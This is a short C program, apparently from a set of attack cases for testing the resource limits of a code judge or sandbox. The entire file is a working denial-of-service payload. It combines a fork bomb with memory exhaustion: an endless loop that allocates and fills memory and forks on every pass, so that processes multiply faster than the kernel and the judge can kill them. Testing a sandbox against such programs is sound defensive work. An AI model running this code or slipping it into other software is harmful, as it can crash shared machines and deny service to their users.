/* Eats memory and forks at once in every process, so that new processes appear while the kernel
 * and the judge kill. */
#include "attack.h"

int main(void)
{
    for (;;) {
        char *piece = malloc(256 << 10);

        if (piece != NULL)
            memset(piece, 1, 256 << 10);
        (void)!fork();
    }
}
